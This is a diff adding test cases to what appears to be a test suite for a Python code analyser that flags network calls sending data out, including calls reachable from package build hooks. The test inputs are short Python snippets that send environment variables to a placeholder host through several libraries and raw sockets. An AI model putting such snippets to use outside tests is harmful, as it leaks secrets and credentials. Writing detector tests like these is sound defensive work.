@@ -94,6 +94,29 @@ describe("python", () => {
     ])
   })
 
+  it.each([
+    ["import os, requests\nrequests.post('//h', json={'a': dict(os.environ)})", '2 connects "//h" sends '],
+    ["import os, httpx\nhttpx.post('//h', headers={'a': os.environ['A']})", '2 connects "//h" sends '],
+    ["import os, urllib.request as u\nu.urlopen(u.Request('//h', data=os.getenv('A')))", '2 connects "//h" sends '],
+    ["import os, http.client as c\nh = c.HTTPSConnection('h')\nh.request('POST', '/', str(os.environ))", '3 connects "h" sends '],
+    ["import os, socket\ns = socket.socket()\ns.connect(('h', 1))\ns.sendall(os.environ['A'].encode())", '4 connects "h" sends '],
+    ["import os, smtplib\nsmtplib.SMTP('h').sendmail('a', 'b', os.environ['A'])", '2 connects "h" sends '],
+    [
+      "import os, threading, requests\ndef f():\n  requests.post('//h', os.environ['A'])\nthreading.Thread(target=f).start()",
+      '3 connects "//h" sends ',
+    ],
+  ])("tells what is sent: %s", (text, expected) => {
+    const sent = acts(text).filter((act) => act.includes(" sends "))
+    expect(sent).toHaveLength(1)
+    expect(sent[0]?.startsWith(expected) === true && !sent[0].endsWith("if called"), sent[0]).toBe(true)
+  })
+
+  it("knows what only callers run, and what builders call", () => {
+    const sending = (name: string): readonly string[] =>
+      acts(`import os, requests\ndef ${name}():\n  requests.post('//h', os.environ['A'])`).map((act) => act.slice(-9))
+    expect([sending("upload")[0], sending("build_wheel")[0]?.endsWith("called")]).toEqual(["if called", false])
+  })
+
   it("looks at what a class of setup's cmdclass does", () => {
     const text =
       "class install(base):\n  what = 'x'\n  def run(self):\n    import os\n    os.system('touch ' + self.what)\nsetup(cmdclass={'install': install})"
